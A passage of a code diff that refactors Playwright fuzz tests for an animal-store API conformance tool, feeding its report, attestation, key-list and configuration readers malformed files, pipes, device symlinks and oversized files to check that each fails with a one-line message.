@@ -1,14 +1,19 @@
-import { createPrivateKey, createPublicKey } from 'node:crypto';
-import { execFileSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
+/** Files of somebody else, which may be anything: no reader breaks, nobody waits for what is no file, and no text acts on a terminal. */
+import { execFileSync, spawn } from 'node:child_process';
+import {
+  closeSync,
+  mkdirSync,
+  mkdtempSync,
+  openSync,
+  rmSync,
+  symlinkSync,
+  truncateSync,
+  writeFileSync,
+} from 'node:fs';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { expect, test } from '@playwright/test';
-import type { HeadRecord } from '../../../fixtures/evidence/log.ts';
-import { writeCanonicalJson } from '../../../reports/certificate/signed/canonical.ts';
-import { sealEnvelope, Unusable } from '../../../reports/certificate/signed/envelope.ts';
-import { makeStatement } from '../../../reports/certificate/issue.ts';
 import { findLacking } from '../../../reports/certificate/shortcomings.ts';
 import { rememberList } from '../../../bin/certificate/issuer.ts';
 import { takeOnce } from '../../../bin/certificate/used.ts';
@@ -17,18 +22,17 @@ import { NO_OPTIONS, readConfiguration } from '../../../bin/run/configuration.ts
 import { readLastReport } from '../../../bin/vendors/vendor-outcome.ts';
 import { readTargets } from '../../../bin/vendors/targets-file.ts';
 import { makeProfileLock } from '../../../reports/shown/comparison/profile-lock.ts';
-import { makeKeys } from '../../../reports/certificate/signed/key-files.ts';
 import {
   recheckEvidence,
   readEvidence,
-  type EvidenceRecheck,
   type RecheckPlan,
 } from '../../../reports/certificate/recheck-evidence.ts';
+import { Unusable } from '../../../reports/certificate/signed/envelope.ts';
 import { REVOCATIONS, revoke } from '../../../reports/certificate/signed/revocation.ts';
 import { readKeyList, listOneKey, addSuccessor } from '../../../reports/certificate/signed/key-list.ts';
 import { readPosedWith } from '../../../reports/certificate/signed/signed-challenge.ts';
-import { CHALLENGE_TYPE, readPosedChallenge, type Challenge } from '../../../fixtures/settings/challenge.ts';
-import { PAYLOAD_TYPE } from '../../../reports/certificate/statement.ts';
+import { CHALLENGE_TYPE, readPosedChallenge } from '../../../fixtures/settings/challenge.ts';
+import { EXTENSION, PAYLOAD_TYPE } from '../../../reports/certificate/statement.ts';
 import { verify } from '../../../reports/certificate/verify-certificate.ts';
 import { compare } from '../../../reports/shown/comparison/comparison.ts';
 import { renderComparisonText } from '../../../reports/shown/comparison/comparison-text.ts';
@@ -39,499 +43,479 @@ import { escapeTerminal } from '../../../reports/shown/words/escape.ts';
 import { renderTerminal } from '../../../reports/shown/text/run-text.ts';
 import { makeMatrix } from '../../../reports/shown/vendors/vendor-matrix.ts';
 import { command } from '../samples/command.ts';
-import { CONFORMING, exchange, report } from '../samples/sample-reports.ts';
+import { PROJECT } from '../samples/installed.ts';
+import { CONFORMING } from '../samples/sample-reports.ts';
+import {
+  CHALLENGE,
+  forge,
+  FORGED,
+  KEY,
+  LINES,
+  LOOK,
+  makeStatementOf,
+  PEM,
+  POSED,
+  REVOCATION_LIST,
+  seal,
+  sign,
+  WHOLE,
+  writeLines,
+} from './hostile-documents.ts';
 import { hostileFiles } from './hostile-files.ts';
 
 // a short run meets fewer of each kind
 const COUNT = process.env.SELF_TESTS === 'all' ? 320 : 120;
 const NOW = Date.parse('2026-11-22T12:00:00Z');
-const pem = makeKeys();
-const KEY = { privateKey: createPrivateKey(pem.privateKey), publicKey: createPublicKey(pem.publicKey) };
-
-const WHOLE = report(
-  { 'list-pets.limit': { verdict: 'fail', expected: '5', received: '6', pointer: '/0', evidence: ['x1'] } },
-  { exchanges: [exchange('x1')] },
-);
 /** Few of each kind, so that changes meet all kinds. */
 const REPORT = {
   ...WHOLE,
   requirements: WHOLE.requirements.filter(({ id }, index) => index < 4 || id === 'list-pets.limit'),
   observations: WHOLE.observations.slice(0, 2),
 };
-const CHALLENGE: Challenge = {
-  version: 1,
-  nonce: 'a'.repeat(64),
-  subject: 'Rex',
-  runBy: 'vendor',
-  issuedAt: '2026-11-20T00:00:00.000Z',
-  notAfter: '2026-11-25T00:00:00.000Z',
-};
-const POSED = sealEnvelope(CHALLENGE_TYPE, writeCanonicalJson(CHALLENGE), KEY.privateKey);
-const HEAD: HeadRecord = {
-  kind: 'head',
-  version: 2,
-  suite: '0.1.0',
-  target: { baseUrl: 'https://rex.example/v1', embedded: false, environment: null },
-  challenge: POSED,
-  mark: 'r1',
-  window: 15_000,
-  clock: Date.parse(CONFORMING.run.startedAt),
-  claimed: [],
-  key: { length: 29, hasLetters: true, caseMayNotMatter: false, singleCase: true },
-  settings: {
-    profile: 'certification',
-    mode: 'full',
-    strict: false,
-    incognito: false,
-    markedNamesOnly: false,
-    seed: 1,
-    seeds: [1, 2],
-    propertyRuns: 200,
-    categoryIds: null,
-    requestTimeout: 10_000,
-    maxAnimals: null,
-    maxRequests: null,
-    maxWrongKeys: 60,
-    maxInFlight: 8,
-    maxRps: null,
-  },
-};
-const ANSWER = {
-  status: 200,
-  statusText: 'OK',
-  headers: [['Content-Type', 'application/json']],
-  body: { text: '[]' },
-  undecodable: null,
-  rawContentLength: null,
-};
-const LINES = [
-  HEAD,
-  {
-    kind: 'exchange',
-    id: 'x1',
-    begin: 1,
-    end: 2,
-    at: HEAD.clock,
-    ask: {
-      operation: 'listPets',
-      method: 'GET',
-      path: '/pets?limit=5',
-      credential: 'key',
-      headers: [['Accept', '*/*']],
-      body: null,
-    },
-    response: ANSWER,
-    error: null,
-  },
-  {
-    kind: 'exchange',
-    id: 'x2',
-    begin: 2,
-    end: 3,
-    at: HEAD.clock + 1,
-    ask: {
-      operation: 'createPet',
-      method: 'POST',
-      path: '/pets',
-      credential: { scheme: 'Bearer', edits: [{ edit: 'keep', from: 0, to: 0.5 }] },
-      body: { text: '{"name":"r1"}' },
-    },
-    response: {
-      ...ANSWER,
-      status: 401,
-      body: { bytes: 70_000, sha256: 'a'.repeat(64), head: '{', tail: '}' },
-    },
-    error: null,
-  },
-  {
-    kind: 'exchange',
-    id: 'x3',
-    begin: 3,
-    end: 4,
-    at: HEAD.clock + 2,
-    ask: { operation: 'getPet', method: 'GET', path: '/pets/1', credential: 'none', body: null },
-    response: null,
-    error: { kind: 'timeout', message: 'none', arrived: false },
-  },
-  {
-    kind: 'demands',
-    test: 1,
-    asked: ['x1'],
-    demands: [
-      { of: 'x1', answers: [[200, 'Pets']], owner: 'list-pets.limit' },
-      { of: 'x1', at: '', owner: 'list-pets.limit', atMost: 5 },
-    ],
-  },
-  {
-    kind: 'judgement',
-    by: 'test',
-    rule: 'asks',
-    requirement: 'list-pets.limit',
-    verdict: 'pass',
-    case: null,
-    exchanges: ['x1'],
-    test: 1,
-  },
-  {
-    kind: 'judgement',
-    by: 'rule',
-    rule: 'a rule',
-    requirement: 'list-pets.limit',
-    verdict: 'fail',
-    case: { expected: '5', received: '6', pointer: null },
-    exchanges: ['x1'],
-  },
-  {
-    kind: 'end',
-    last: 2,
-    reason: {
-      kind: 'silent',
-      error: 'none',
-      since: { method: 'GET', path: '/pets', id: 'x1', at: 1 },
-      isLarge: false,
-    },
-  },
-];
-const asLines = (records: unknown) =>
-  Array.isArray(records)
-    ? records.map((each) => `${writeCanonicalJson(each ?? null)}\n`).join('')
-    : `${JSON.stringify(records)}\n`;
 const PLAN: RecheckPlan = {
   cases: [{ title: 'asks', requirement: 'list-pets.limit', file: 'tests/list-pets.spec.ts' }],
   asks: [],
 };
-const LOOK: EvidenceRecheck = {
-  head: HEAD,
-  report: REPORT,
-  contradictions: [],
-  gaps: [],
-  attested: {},
-  unannounced: { asked: 40, refused: 0 },
-  clockApart: null,
-};
-const statementFor = ({ evidence }: { evidence: Uint8Array }) =>
-  makeStatement({
-    recheck: LOOK,
-    evidence,
-    challenge: CHALLENGE,
-    sha256: null,
-    now: NOW,
-    validDays: 90,
-  });
-const RIGHT = { report: Buffer.from(JSON.stringify(REPORT)), evidence: Buffer.from(asLines(LINES)) };
-const signed = (statement: unknown) =>
-  Buffer.from(sealEnvelope(PAYLOAD_TYPE, writeCanonicalJson(statement), KEY.privateKey));
-const verified = (
-  attestation: Buffer,
-  files: Map<string, Uint8Array> | null,
-  revoked: Uint8Array | null = null,
-) =>
-  verify({
-    attestation,
+const RIGHT = { report: Buffer.from(JSON.stringify(REPORT)), evidence: Buffer.from(writeLines(LINES)) };
+const statementOf = (evidence: Uint8Array) =>
+  makeStatementOf(evidence, { ...LOOK, report: REPORT }, CHALLENGE, NOW);
+const STATEMENT = statementOf(RIGHT.evidence);
+
+/** The checks that a verification makes, in words. */
+function verified(attestation: Buffer, files: object | null, revoked: Uint8Array | null = null) {
+  const of = files && new Map<string, Uint8Array>(Object.entries(files));
+  const trust = {
     issuer: listOneKey(KEY.publicKey),
     keys: null,
-    files,
     at: new Date(NOW + 1_000),
     revoked,
     seen: null,
-    plan: PLAN,
+  };
+  const { verdict, checks } = verify({ attestation, files: of, plan: PLAN, ...trust });
+  return { verdict, found: checks.map(({ found }) => escapeTerminal(found)) };
+}
+const overFiles = ({ report, evidence }: typeof RIGHT) => {
+  const { verdict, found } = verified(sign(statementOf(evidence)), {
+    'report.json': report,
+    'evidence.jsonl': evidence,
   });
-const overFiles = (files: typeof RIGHT) =>
-  verified(
-    signed(statementFor(files)),
-    new Map([
-      ['report.json', files.report],
-      ['evidence.jsonl', files.evidence],
-    ]),
-  );
+  expect(verdict).toBe('invalid');
+  return found;
+};
+
+const PATH = join(mkdtempSync(join(tmpdir(), 'conformance-fuzz-')), 'target.json');
+const FOLDER = dirname(PATH);
+/** Writes the bytes to a file before it is read. */
+const inFile = (read: () => unknown) => (bytes: Buffer) => {
+  writeFileSync(PATH, bytes);
+  return read();
+};
+/** Everything that a run reads before it asks, with one file of these bytes. */
+const runWith = (name: string) =>
+  inFile(() => {
+    const env: NodeJS.ProcessEnv = {
+      BASE_URL: 'https://rex.example/v1',
+      API_KEY: 'a-key-of-many-letters',
+      [name]: PATH,
+    };
+    if (name === 'API_KEY_FILE') delete env.API_KEY;
+    return readConfiguration(NO_OPTIONS, { env, cwd: FOLDER });
+  });
+const sealed = (type: string, read: (text: string) => unknown) => (bytes: Buffer) =>
+  read(seal(type, bytes.toString('utf8')));
+const TRUST = { issuer: listOneKey(KEY.publicKey), keys: null, seen: null };
+const NEW_LIST = { run: null, keys: null, reason: '', now: new Date(NOW), validDays: 1 };
+const KEYS = JSON.parse(
+  addSuccessor([], KEY.privateKey, new Date(NOW), { key: KEY.publicKey, issued: [], compromisedSince: null }),
+);
+const WAIVER = {
+  requirement: 'list-pets.limit',
+  reason: 'a',
+  owner: 'b',
+  ticket: 'c',
+  expires: '2030-01-31',
+};
+const VENDOR = { name: 'rex', baseUrl: 'https://rex.example/v1', apiKeyVariable: 'KEY', categoryIds: ['1'] };
+const ANIMAL = { id: '1', name: 'Rex', categoryId: '1', status: null };
+
+/** All that is made of a report that can be read. */
+function useReport(bytes: Buffer) {
+  const read = readReport(bytes);
+  if ('mistakes' in read) return read;
+  const { value } = read;
+  renderComparisonText(compare(CONFORMING, value));
+  makeMatrix([{ name: 'rex', report: value, page: null, certificate: null }], new Date(NOW).toISOString());
+  renderTerminal(value, { colour: false, width: 100 });
+  renderConformancePage(value);
+  findLacking({ ...LOOK, report: value }, NOW);
+  return null;
+}
+
+/** Each document with a right value and its reader, which returns or throws what it says of a wrong one. */
+const READERS: readonly (readonly [
+  what: string,
+  right: unknown,
+  read: (bytes: Buffer<ArrayBuffer>) => unknown,
+  spell?: (value: unknown) => string,
+])[] = [
+  ['reports, with all that is made of them', REPORT, useReport],
+  ['evidence', LINES, (evidence) => overFiles({ ...RIGHT, evidence }), writeLines],
+  [
+    'evidence that is judged again',
+    LINES,
+    (each) => recheckEvidence(readEvidence(each), PLAN, CHALLENGE),
+    writeLines,
+  ],
+  ['reports that were signed', REPORT, (report) => overFiles({ ...RIGHT, report })],
+  ['attestations', JSON.parse(String(sign(STATEMENT))), (bytes) => verified(bytes, RIGHT)],
+  ['statements', STATEMENT, sealed(PAYLOAD_TYPE, (text) => verified(Buffer.from(text), RIGHT))],
+  [
+    'revocations',
+    REVOCATION_LIST,
+    sealed(REVOCATIONS.payloadType, (text) => verified(sign(STATEMENT), null, Buffer.from(text))),
+  ],
+  ['posed challenges', JSON.parse(POSED), (bytes) => readPosedChallenge(bytes.toString('utf8'), NOW)],
+  ['challenges', CHALLENGE, sealed(CHALLENGE_TYPE, (text) => readPosedWith(text, KEY.publicKey))],
+  [
+    'lists of keys',
+    JSON.parse(Buffer.from(KEYS.payload, 'base64').toString('utf8')),
+    sealed(KEYS.payloadType, (text) => readKeyList(Buffer.from(text), KEY.publicKey)),
+  ],
+  [
+    'footprints',
+    { run: 'r1', target: VENDOR.baseUrl, embedded: false, at: REVOCATION_LIST.issuedAt, animals: [ANIMAL] },
+    readFootprint,
+  ],
+  ['waivers', [WAIVER, { ...WAIVER, expected: '5' }], runWith('WAIVERS')],
+  ['pinned profiles', makeProfileLock(REPORT), runWith('PROFILE_LOCK')],
+  ['headers', { 'X-Gateway': 'a', Cookie: 'b' }, runWith('HEADERS_FILE')],
+  ['challenges of a run', JSON.parse(POSED), runWith('CHALLENGE')],
+  ['keys', { key: 'a-key' }, runWith('API_KEY_FILE')],
+  ['authorities', { pem: PEM.publicKey }, runWith('CA_FILE')],
+  ['targets', [VENDOR, { ...VENDOR, name: 'felix' }], inFile(() => readTargets(PATH, { KEY: 'secret' }))],
+  [
+    'outcomes',
+    { outcome: { target: 'rex', exitCode: 2, seconds: 1, begun: '', reason: 'it was refused' }, baseUrl: '' },
+    inFile(() => expect(typeof readLastReport(FOLDER)).toBe('string')),
+  ],
+  [
+    'records of challenges',
+    { nonce: CHALLENGE.nonce, at: '', by: 'x' },
+    inFile(() => takeOnce(PATH, CHALLENGE, new Date(NOW))),
+  ],
+  [
+    'records of lists',
+    { [CHALLENGE.nonce]: { number: 1, sha256: 'b'.repeat(64) } },
+    inFile(() =>
+      rememberList(PATH, { ...TRUST, revoked: Buffer.from(revoke(null, NEW_LIST, KEY.privateKey)) }),
+    ),
+  ],
+];
+
+/** Sentences that a reader returns; those that it throws are of its own kinds of errors. */
+function sentencesOf(read: () => unknown): readonly string[] {
+  try {
+    const said = read() as { mistakes?: string[]; found?: string[]; problem?: string } | string[] | null;
+    const sentences = Array.isArray(said) ? said : (said?.mistakes ?? said?.found ?? [said?.problem]);
+    return sentences.filter((each) => typeof each === 'string');
+  } catch (error) {
+    if (!(error instanceof Mistake || error instanceof Unusable)) throw error;
+    return error.message.split('\n');
+  }
+}
 const isOneLine = (text: string) =>
   text !== '' &&
   !text.includes('\n') &&
   !/Cannot read|is not a function|undefined \(reading|Invalid time|not iterable/.test(text);
-/** One line says what is wrong with a file, and nothing of our program. */
-const tells = (mistakes: readonly string[]) =>
-  expect(mistakes.filter((each) => !isOneLine(each))).toEqual([]);
 
-/** Everything that a run reads before it asks, with one file of these bytes. */
-const runWith = (name: string, path: string) => () => {
-  const env = { BASE_URL: 'https://rex.example/v1', API_KEY: 'a-key-of-many-letters', [name]: path };
-  if (name === 'API_KEY_FILE') delete (env as NodeJS.ProcessEnv).API_KEY;
-  const read = readConfiguration(NO_OPTIONS, { env, cwd: dirname(path) });
-  if ('mistakes' in read) tells(read.mistakes);
-};
+test.describe('no file of somebody else breaks a reader, and one line says what is wrong', () => {
+  for (const [seed, [what, right, read, spell]] of READERS.entries())
+    test(what, () => {
+      test.setTimeout(600_000);
+      for (const file of hostileFiles(right, COUNT, seed + 1, spell))
+        expect(
+          sentencesOf(() => read(file)).filter((each) => !isOneLine(each)),
+          file.toString('utf8').slice(0, 3_000),
+        ).toEqual([]);
+    });
 
-/** Only the one line of a mistake may be thrown. */
-const refuses = (read: () => unknown) => {
-  try {
-    read();
-  } catch (error) {
-    if (!(error instanceof Mistake || error instanceof Unusable)) throw error;
-    tells(error.message.split('\n'));
-  }
-};
-
-test.describe('no file of somebody else breaks a reader', () => {
-  test('reports, with all that is made of them', () => {
-    let taken = 0;
-    for (const file of hostileFiles(REPORT, COUNT, 1)) {
-      const read = readReport(file);
-      if ('mistakes' in read) tells(read.mistakes);
-      else {
-        taken += 1;
-        const { value } = read;
-        renderComparisonText(compare(CONFORMING, value));
-        makeMatrix(
-          [{ name: 'rex', report: value, page: null, certificate: null }],
-          new Date(NOW).toISOString(),
-        );
-        renderTerminal(value, { colour: false, width: 100 });
-        renderConformancePage(value);
-        findLacking({ ...LOOK, report: value }, NOW);
-      }
-    }
-    // some changes are of texts, which may be anything
+  test('some changed reports are reports, since texts may be anything, and right evidence is evidence', () => {
+    const taken = hostileFiles(REPORT, COUNT, 1).filter((file) => useReport(file) === null).length;
     expect(taken).toBeGreaterThan(COUNT / 15);
     expect(taken).toBeLessThan(COUNT / 2);
-  });
-  test('evidence: none is judged again that was not written by a run', () => {
     expect(recheckEvidence(readEvidence(RIGHT.evidence), PLAN, CHALLENGE).head.mark).toBe('r1');
-    const unforeseen: string[] = [];
-    for (const file of hostileFiles(LINES, COUNT, 2, asLines)) {
-      const { verdict, checks } = overFiles({ report: RIGHT.report, evidence: file });
-      expect(verdict).toBe('invalid');
-      tells(checks.map(({ found }) => escapeTerminal(found)));
-      try {
-        recheckEvidence(readEvidence(file), PLAN, CHALLENGE);
-      } catch (error) {
-        if (!(error instanceof Unusable))
-          unforeseen.push(`${String(error)} ${file.toString('utf8').slice(0, 3_000)}`);
-      }
-    }
-    expect(unforeseen).toEqual([]);
-  });
-  test('reports that were signed', () => {
-    for (const file of hostileFiles(REPORT, COUNT, 3)) {
-      const { verdict, checks } = overFiles({ report: file, evidence: RIGHT.evidence });
-      expect(verdict).toBe('invalid');
-      tells(checks.map(({ found }) => escapeTerminal(found)));
-    }
-  });
-  test('attestations, signed and not', () => {
-    const statement = statementFor(RIGHT);
-    const unsigned = hostileFiles(JSON.parse(String(signed(statement))), COUNT / 2, 4);
-    const sealed = hostileFiles(statement, COUNT, 5).map((payload) =>
-      Buffer.from(sealEnvelope(PAYLOAD_TYPE, payload.toString('utf8'), KEY.privateKey)),
-    );
-    const spelled = hostileFiles(statement, COUNT, 6, (each) => writeCanonicalJson(each)).map((payload) =>
-      Buffer.from(sealEnvelope(PAYLOAD_TYPE, payload.toString('utf8'), KEY.privateKey)),
-    );
-    for (const file of [...unsigned, ...sealed, ...spelled])
-      tells(
-        verified(
-          file,
-          new Map(Object.entries({ 'report.json': RIGHT.report, 'evidence.jsonl': RIGHT.evidence })),
-        ).checks.map(({ found }) => escapeTerminal(found)),
-      );
-  });
-  test('lists of revocations: one that cannot be read revokes', () => {
-    const list = {
-      version: 2,
-      number: 3,
-      issuedAt: '2026-11-20T10:00:00.000Z',
-      notAfter: '2026-12-20T10:00:00.000Z',
-      revoked: [{ attestation: 'a'.repeat(64), reason: 'lost', since: '2026-11-20T10:00:00.000Z' }],
-    };
-    const attestation = signed(statementFor(RIGHT));
-    for (const payload of hostileFiles(list, COUNT, 7)) {
-      const { checks } = verified(
-        attestation,
-        null,
-        Buffer.from(sealEnvelope(REVOCATIONS.payloadType, payload.toString('utf8'), KEY.privateKey)),
-      );
-      tells(checks.map(({ found }) => escapeTerminal(found)));
-    }
-  });
-  test('challenges, and lists of keys', () => {
-    const { text } = { text: POSED };
-    const endless = JSON.stringify({ ...JSON.parse(text), payload: { length: 1e9 } });
+    const endless = JSON.stringify({ ...JSON.parse(POSED), payload: { length: 1e9 } });
     expect(readPosedChallenge(endless, NOW)).toEqual({ problem: 'holds no challenge' });
-    for (const file of hostileFiles(JSON.parse(text), COUNT, 10)) {
-      const posed = readPosedChallenge(file.toString('utf8'), NOW);
-      if ('problem' in posed) tells([posed.problem]);
-    }
-    for (const payload of hostileFiles(CHALLENGE, COUNT, 11)) {
-      const text = sealEnvelope(CHALLENGE_TYPE, payload.toString('utf8'), KEY.privateKey);
-      refuses(() => readPosedWith(text, KEY.publicKey));
-    }
-    const keys = JSON.parse(
-      addSuccessor([], KEY.privateKey, new Date(NOW), {
-        key: KEY.publicKey,
-        issued: [],
-        compromisedSince: null,
-      }),
-    );
-    const list = JSON.parse(Buffer.from(keys.payload, 'base64').toString('utf8'));
-    for (const payload of hostileFiles(list, COUNT, 12)) {
-      const file = Buffer.from(sealEnvelope(keys.payloadType, payload.toString('utf8'), KEY.privateKey));
-      refuses(() => readKeyList(file, KEY.publicKey));
-    }
-  });
-  test('footprints', () => {
-    for (const file of hostileFiles(
-      {
-        run: 'r1',
-        target: 'https://rex.example/v1',
-        embedded: false,
-        at: '2026-11-20T10:00:00.000Z',
-        animals: [{ id: '1', name: 'Rex', categoryId: '1', status: null }],
-      },
-      COUNT,
-      8,
-    )) {
-      const read = readFootprint(file);
-      if ('mistakes' in read) tells(read.mistakes);
-    }
-  });
-  test('waivers, targets, pinned profiles, outcomes, headers, histories and records of challenges', () => {
-    test.setTimeout(600_000);
-    const folder = mkdtempSync(join(tmpdir(), 'conformance-fuzz-'));
-    const path = join(folder, 'target.json');
-    const day = {
-      requirement: 'list-pets.limit',
-      reason: 'a',
-      owner: 'b',
-      ticket: 'c',
-      expires: '2030-01-31',
-    };
-    const target = {
-      name: 'rex',
-      baseUrl: 'https://rex.example/v1',
-      apiKeyVariable: 'KEY',
-      categoryIds: ['1'],
-    };
-    const outcome = { target: 'rex', exitCode: 2, seconds: 1, begun: '', reason: 'it was refused' };
-    const renewing = { run: null, keys: null, reason: '', now: new Date(NOW), validDays: 1 };
-    const revoked = Buffer.from(revoke(null, renewing, KEY.privateKey));
-    const trust = { issuer: listOneKey(KEY.publicKey), keys: null, revoked, seen: null };
-    const readers: [value: unknown, read: () => void][] = [
-      [[day, { ...day, expected: '5' }], runWith('WAIVERS', path)],
-      [makeProfileLock(REPORT), runWith('PROFILE_LOCK', path)],
-      [{ 'X-Gateway': 'a', Cookie: 'b' }, runWith('HEADERS_FILE', path)],
-      [JSON.parse(POSED), runWith('CHALLENGE', path)],
-      [{ key: 'a-key' }, runWith('API_KEY_FILE', path)],
-      [{ pem: pem.publicKey }, runWith('CA_FILE', path)],
-      [[target, { ...target, name: 'felix' }], () => refuses(() => readTargets(path, { KEY: 'secret' }))],
-      [{ outcome, baseUrl: '' }, () => expect(typeof readLastReport(folder)).toBe('string')],
-      [
-        { nonce: 'a'.repeat(64), at: '', by: 'x' },
-        () => refuses(() => takeOnce(path, CHALLENGE, new Date(NOW))),
-      ],
-      [
-        { ['a'.repeat(64)]: { number: 1, sha256: 'b'.repeat(64) } },
-        () => refuses(() => rememberList(path, trust)),
-      ],
-    ];
-    for (const [index, [value, read]] of readers.entries())
-      for (const file of hostileFiles(value, COUNT, 20 + index)) {
-        writeFileSync(path, file);
-        read();
-      }
   });
   test('a member that stands twice, a leap second and a day that is none are refused by name', () => {
     const text = JSON.stringify(REPORT);
-    const mistakeOf = (changed: string) => readReport(Buffer.from(changed));
-    expect(
-      mistakeOf(
-        text.replace('"verdict":"nonconforming"', '"verdict":"nonconforming","verdict":"conforming"'),
-      ),
-    ).toEqual({ mistakes: ['/verdict is there twice'] });
-    for (const time of ['2026-11-20T23:59:60Z', '2026-02-31T10:00:00Z'])
-      expect(mistakeOf(text.replace(REPORT.run.startedAt, time))).toEqual({
-        mistakes: [expect.stringContaining('/run/startedAt')],
+    const verdict = `"verdict":"${REPORT.verdict}"`;
+    const rows: [part: string, by: string, mistake: string][] = [
+      [verdict, `${verdict},"verdict":"conforming"`, '/verdict is there twice'],
+      [REPORT.run.startedAt, '2026-11-20T23:59:60Z', '/run/startedAt'],
+      [REPORT.run.startedAt, '2026-02-31T10:00:00Z', '/run/startedAt'],
+      ['"durationMs":8420', '"durationMs":1e999', '/run/durationMs'],
+    ];
+    for (const [part, by, mistake] of rows)
+      expect(readReport(Buffer.from(text.replace(part, by)))).toEqual({
+        mistakes: [expect.stringContaining(mistake)],
       });
-    expect(mistakeOf(text.replace('"durationMs":8420', '"durationMs":1e999'))).toEqual({
-      mistakes: [expect.stringContaining('/run/durationMs')],
-    });
   });
   test('a file called as what every object has is covered by no digest', () => {
-    const files = new Map<string, Uint8Array>([
+    const odd = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];
+    const files = Object.fromEntries([
       ['report.json', RIGHT.report],
       ['evidence.jsonl', RIGHT.evidence],
-      ...['constructor', '__proto__', 'toString', 'hasOwnProperty'].map((name): [string, Uint8Array] => [
-        name,
-        Buffer.from('x'),
-      ]),
     ]);
-    const { checks } = verified(signed(statementFor(RIGHT)), files);
-    expect(checks.find(({ name }) => name === 'files')?.found).toContain(
-      'constructor is covered by no digest; __proto__ is covered by no digest; toString is covered by no digest',
-    );
+    for (const name of odd) Object.defineProperty(files, name, { value: Buffer.from('x'), enumerable: true });
+    const { found } = verified(sign(STATEMENT), files);
+    expect(found.join('\n')).toContain(odd.map((name) => `${name} is covered by no digest`).join('; '));
   });
 });
+
+const PUBLIC = ['--public-key', 'key.pem.pub'];
+const SIGNING = ['--issuer-key', 'key.pem'];
+
+/** A command and the file in question. `exits`: 2 alone, unless another one is right for a file that may be as it is. */
+interface Reader {
+  file: string;
+  words: readonly string[];
+  env?: Record<string, string>;
+  exits?: readonly number[];
+}
+
+/** Nothing answers there; what can be read leads to that. */
+const NOBODY = { BASE_URL: 'http://127.0.0.1:9/v1', API_KEY: 'a-key-of-many-letters' };
+const ofRun = (file: string, name: string, exits = [2], words: readonly string[] = []): Reader => ({
+  file,
+  words: ['run', '--quiet', ...words],
+  env: { ...NOBODY, [name]: file },
+  exits,
+});
+const of = (file: string, words: string, more: readonly string[] = [], exits = [2]): Reader => ({
+  file,
+  words: [...words.split(' '), ...more],
+  exits,
+});
+const CERTIFY = 'certify --report . --used used';
+
+const FILES: readonly Reader[] = [
+  of('odd.json', 'verify odd.json', PUBLIC, [1, 2]),
+  of('key.pem.pub', 'verify report.json', PUBLIC),
+  of('folder/report.json', 'verify report.json --evidence folder', PUBLIC, [1, 2]),
+  of('revoked.json', 'verify report.json --revoked revoked.json', PUBLIC, [1, 2]),
+  of('keys.json', 'verify report.json --keys keys.json', PUBLIC),
+  of('evidence.jsonl', CERTIFY, SIGNING),
+  of('key.pem', CERTIFY, SIGNING),
+  of('odd.json', 'compare report.json odd.json'),
+  of('odd.json', 'compare report.json --baseline odd.json'),
+  of('vendors/rex/report.json', 'matrix vendors', [], [0, 2]),
+  of('vendors/rex/target.json', 'matrix vendors folder', [], [0, 2]),
+  of('revoked.json', 'matrix . --revoked revoked.json', PUBLIC),
+  of('left/report.json', 'report --report-dir left'),
+  of('targets.json', 'targets run targets.json'),
+  of('revoked.json', 'revoke --list revoked.json', SIGNING),
+  ofRun('waivers.json', 'WAIVERS'),
+  // an object with nothing in it pins nothing and sets no header
+  ofRun('lock.json', 'PROFILE_LOCK', [2, 3], ['--lock']),
+  ofRun('headers.json', 'HEADERS_FILE', [2, 3]),
+  { file: 'key.txt', words: ['run', '--quiet'], env: { BASE_URL: NOBODY.BASE_URL, API_KEY_FILE: 'key.txt' } },
+  ofRun('ca.pem', 'CA_FILE'),
+  ofRun('challenge.json', 'CHALLENGE'),
+  { file: '.env', words: ['run', '--quiet'], env: NOBODY, exits: [2, 3] },
+  ofRun('history.jsonl', 'ALLURE_HISTORY', [2, 3]),
+  { file: 'out/report.json', words: ['run', '--failed', '--quiet'], env: { ...NOBODY, REPORT_DIR: 'out' } },
+];
+
+/** Things that may stand in the place of a file. `says`: the words that name it. */
+const KINDS: readonly (readonly [make: (path: string) => void, says?: string])[] = [
+  [(path) => execFileSync('mkfifo', [path]), 'is a named pipe; a file is expected'],
+  [(path) => mkdirSync(path), 'is a folder; a file is expected'],
+  [(path) => symlinkSync('/dev/zero', path), 'is a device; a file is expected'],
+  [(path) => symlinkSync(path, path)],
+  [(path) => symlinkSync('/nowhere/at/all', path)],
+  [
+    (path) => {
+      closeSync(openSync(path, 'w', 0o600));
+      truncateSync(path, 2 ** 30);
+    },
+  ],
+  ...['', '\ufeff{}', Buffer.from('\ufeff{"a":1}', 'utf16le'), Buffer.alloc(4_096)].map(
+    (bytes) => [(path: string) => writeFileSync(path, bytes, { mode: 0o600 })] as const,
+  ),
+];
+
+/** A folder in which each reader finds all that it needs but the file in question. */
+function folderFor(file: string): string {
+  const folder = mkdtempSync(join(tmpdir(), 'conformance-special-'));
+  for (const each of ['folder', 'vendors/rex', 'left/allure-results', 'out', dirname(file)])
+    mkdirSync(join(folder, each), { recursive: true });
+  const texts = {
+    'key.pem': PEM.privateKey,
+    'key.pem.pub': PEM.publicKey,
+    'report.json': JSON.stringify(CONFORMING),
+  };
+  for (const [name, text] of Object.entries(texts))
+    if (name !== file) writeFileSync(join(folder, name), text, { mode: 0o600 });
+  return folder;
+}
+
+/** Runs the command for at most a minute. */
+async function takes(
+  { file, words, env = {}, exits = [2] }: Reader,
+  folder: string,
+  says = '',
+): Promise<void> {
+  const main = join(PROJECT, 'dist', 'bin', 'animal-store-conformance.js');
+  const child = spawn(process.execPath, [main, ...words], {
+    cwd: folder,
+    env: { PATH: process.env.PATH, ...env },
+    timeout: 60_000,
+    killSignal: 'SIGKILL',
+  });
+  let said = '';
+  for (const stream of [child.stdout, child.stderr])
+    stream.on('data', (chunk: Buffer) => (said += chunk.toString()));
+  const exitCode = await new Promise<number | null>((done) => child.on('close', done));
+  const what = `${words.join(' ')}, ${file}: ${says}\n${said}`;
+  expect.soft(exits, what).toContain(exitCode);
+  expect.soft(said, what).not.toMatch(/^ +at |the suite itself broke/im);
+  // a run names the variable, `compare` looks into a folder, and a file may not be needed
+  if (words[0] !== 'run' && exits.length === 1)
+    expect.soft(said, what).toMatch(new RegExp(`${says}|odd.json does not exist`));
+  rmSync(folder, { recursive: true });
+}
 
 test.describe('what is no file is named, and nobody waits for it', () => {
